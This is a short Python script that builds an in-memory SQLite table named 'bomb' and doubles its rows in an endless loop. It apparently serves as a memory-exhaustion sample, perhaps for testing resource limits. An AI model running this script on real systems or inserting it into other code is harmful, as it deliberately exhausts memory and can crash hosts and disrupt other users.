import sqlite3

database = sqlite3.connect(":memory:")
database.execute("CREATE TABLE bomb (data BLOB)")
database.execute("INSERT INTO bomb VALUES (randomblob(1000))")
while True:
    database.execute("INSERT INTO bomb SELECT data FROM bomb")
